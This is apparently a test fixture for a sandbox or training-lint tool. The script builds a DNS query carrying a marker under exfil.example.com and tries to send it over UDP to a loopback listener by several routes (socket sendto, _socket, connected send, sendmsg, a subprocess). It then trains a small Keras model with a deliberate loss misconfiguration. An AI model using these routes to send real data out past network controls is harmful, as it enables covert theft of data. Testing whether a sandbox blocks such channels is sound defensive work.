"""A DNS query over UDP (the classic exfiltration channel) to a loopback listener: from the
child's Python (socket, `_socket`, a connected socket) and from a subprocess."""
import _socket
import socket
import struct
import subprocess
import sys

import numpy as np
import keras

MARKER = "@MARKER@"
PORT = int("@UDP_PORT@")
ADDRESS = ("127.0.0.1", PORT)


def dns_query(name):
    header = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return header + labels + b"\x00" + struct.pack(">HH", 1, 1)


QUERY = dns_query(f"{MARKER}.exfil.example.com")


def attempt(label, fn):
    try:
        result = fn()
        print(f"{label}: {result}")
    except Exception as exc:  # noqa: BLE001 - a hostile script goes on
        print(f"{label} failed: {type(exc).__name__}: {exc}")


def connected():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.connect(ADDRESS)
    return sock.send(QUERY)


attempt("sendto", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(QUERY, ADDRESS))
attempt("_socket sendto", lambda: _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM).sendto(QUERY, ADDRESS))
attempt("connected send", connected)
attempt("sendmsg", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendmsg([QUERY], [], 0, ADDRESS))
code = f"import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto({QUERY!r}, ('127.0.0.1', {PORT}))"
attempt("subprocess", lambda: subprocess.run([sys.executable, "-c", code], timeout=20).returncode)

rng = np.random.default_rng(0)
x = rng.random((8, 8, 8, 1)).astype("float32")
y = np.arange(8) % 2
model = keras.Sequential([keras.Input((8, 8, 1)), keras.layers.Flatten(), keras.layers.Dense(2, activation="softmax")])
# TL301 on purpose (softmax output, from_logits=True): its `confirmed` verdict shows the step ran.
model.compile(optimizer="adam", loss=keras.losses.SparseCategoricalCrossentropy(from_logits=True))
model.fit(x, y, epochs=1, batch_size=4, verbose=0)
print("trained")
